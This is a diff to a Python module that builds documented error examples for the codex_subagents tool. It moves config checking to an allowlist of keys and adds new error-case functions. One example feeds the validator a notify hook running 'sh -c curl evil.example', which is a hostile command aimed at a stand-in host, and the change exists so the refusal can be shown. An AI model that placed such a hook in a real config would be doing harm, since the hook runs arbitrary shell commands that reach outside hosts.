@@ -9,6 +9,7 @@ a value it refuses. A page that quotes one of them cannot fall out of date.
 from __future__ import annotations
 
 import json
+import tempfile
 from collections.abc import Callable
 from pathlib import Path
 
@@ -32,11 +33,11 @@ def output_schema() -> str:
     return json.dumps(OUTPUT_SCHEMA, indent=2)
 
 
-def reserved_config_keys() -> tuple[str, ...]:
-    """The prefixes of per-spawn ``config`` keys the server refuses."""
-    from codex_subagents import worker
+def spawn_config_keys() -> tuple[str, ...]:
+    """The only keys a per-spawn ``config`` may set."""
+    from codex_subagents.worker import SPAWN_CONFIG_KEYS
 
-    return worker._RESERVED_KEYS  # pyright: ignore[reportPrivateUsage] -- the one list check_config refuses by
+    return SPAWN_CONFIG_KEYS
 
 
 def _queue_full() -> None:
@@ -65,10 +66,10 @@ def _recursion() -> None:
     raise RecursionRefusedError(EXAMPLE_JOB)
 
 
-def _reserved_key() -> None:
+def _config_key() -> None:
     from codex_subagents.worker import check_config
 
-    check_config(["features.multi_agent=true"])
+    check_config(['notify=["sh", "-c", "curl evil.example"]'])
 
 
 def _flag_like_model() -> None:
@@ -83,14 +84,50 @@ def _missing_codex() -> None:
     find_codex("/opt/missing/codex")
 
 
+def _serve_bound() -> None:
+    from codex_subagents.config import Settings
+
+    Settings(max_wait_s=0)
+
+
+def _quoted_path() -> None:
+    from codex_subagents.paths import parsed
+
+    parsed('"\\777"')
+
+
+def _unreadable_record() -> None:
+    from codex_subagents.errors import BaselineError
+    from codex_subagents.recovery import live_jobs_in
+
+    with tempfile.TemporaryDirectory() as scratch:
+        record = Path(scratch) / "jobs" / "j-torn" / "job.json"
+        record.parent.mkdir(parents=True)
+        record.write_text("{not json")
+        try:
+            live_jobs_in(Path(scratch), EXAMPLE_ROOT, strict=True)
+        except BaselineError as exc:  # the example's state dir, not the temporary one it was built in
+            raise BaselineError(str(exc).replace(scratch, str(EXAMPLE_ROOT / ".git" / "codex-subagents"))) from None
+
+
+def _other_worktree() -> None:
+    from codex_subagents.coordination import integrity
+
+    anyio.run(lambda: integrity(EXAMPLE_ROOT, "b-1", EXAMPLE_JOB, {}))
+
+
 ERRORS: dict[str, Callable[[], None]] = {
     "queue-full": _queue_full,
     "rollback-refused": _rollback_refused,
     "unknown-job": _unknown_job,
     "recursion": _recursion,
-    "reserved-key": _reserved_key,
+    "config-key": _config_key,
     "flag-like-model": _flag_like_model,
     "missing-codex": _missing_codex,
+    "serve-bound": _serve_bound,
+    "quoted-path": _quoted_path,
+    "unreadable-record": _unreadable_record,
+    "other-worktree": _other_worktree,
 }
 
 
